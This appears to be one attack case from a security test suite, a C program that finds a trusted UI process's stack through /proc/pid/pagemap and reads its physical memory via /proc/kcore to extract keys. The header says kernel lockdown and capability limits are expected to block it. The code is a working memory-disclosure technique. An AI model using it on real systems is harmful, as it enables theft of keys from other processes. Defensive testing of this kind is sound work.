// SPDX-License-Identifier: Apache-2.0
/*
 * Looks up where the trusted user interface's stack is in physical memory (pagemap) and reads
 * it there through /proc/kcore.
 *
 * attack: proc_kcore
 * class: process
 * when: session
 * judge: keys
 * defence: boot
 * why: lockdown=confidentiality does not open /proc/kcore; the REE has no CAP_SYS_RAWIO for it
 *      either, and pagemap tells page numbers to CAP_SYS_ADMIN only. (/dev/mem: no such node in
 *      the REE, lockdown, and STRICT_DEVMEM in any Debian kernel.)
 */
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "memory.h"

#define PAGE	4096ull
#define PRESENT	(1ull << 63)
#define FRAME	((1ull << 55) - 1)

static int open_pagemap(pid_t pid)
{
	char path[32];

	snprintf(path, sizeof(path), "/proc/%d/pagemap", pid);
	return open(path, O_RDONLY | O_CLOEXEC);
}

/* Offset in the core file of a physical address; 0 if it has none. */
static uint64_t offset_of(int kcore, uint64_t physical)
{
	Elf64_Ehdr header;
	Elf64_Phdr segment;
	int i;

	if (pread(kcore, &header, sizeof(header), 0) != sizeof(header))
		return 0;
	for (i = 0; i < header.e_phnum; i++) {
		off_t at = (off_t)(header.e_phoff + (size_t)i * sizeof(segment));

		if (pread(kcore, &segment, sizeof(segment), at) == sizeof(segment) &&
		    segment.p_type == PT_LOAD && segment.p_paddr <= physical &&
		    physical - segment.p_paddr < segment.p_memsz)
			return segment.p_offset + physical - segment.p_paddr;
	}
	return 0;
}

static int read_page(int kcore, int pagemap, uint64_t address, char *buf)
{
	uint64_t entry, offset;

	memset(buf, 0, PAGE);
	if (pread(pagemap, &entry, sizeof(entry), (off_t)(address / PAGE * sizeof(entry))) !=
	    sizeof(entry))
		return -errno;
	if (!(entry & PRESENT))
		return 0;
	offset = (entry & FRAME) ? offset_of(kcore, (entry & FRAME) * PAGE) : 0;
	if (!offset)
		return -EPERM;
	return pread(kcore, buf, PAGE, (off_t)offset) == (ssize_t)PAGE ? 0 : -errno;
}

static ssize_t read_physical(pid_t pid, uint64_t address, void *buf, size_t size)
{
	int kcore = open("/proc/kcore", O_RDONLY | O_CLOEXEC);
	int pagemap = open_pagemap(pid);
	int ret = kcore < 0 || pagemap < 0 ? -errno : 0;
	size_t at;

	for (at = 0; !ret && at < size; at += PAGE)
		ret = read_page(kcore, pagemap, address + at, (char *)buf + at);
	close(kcore);
	close(pagemap);
	return ret ? ret : (ssize_t)size;
}

int main(void)
{
	memory_watch(read_physical);
}
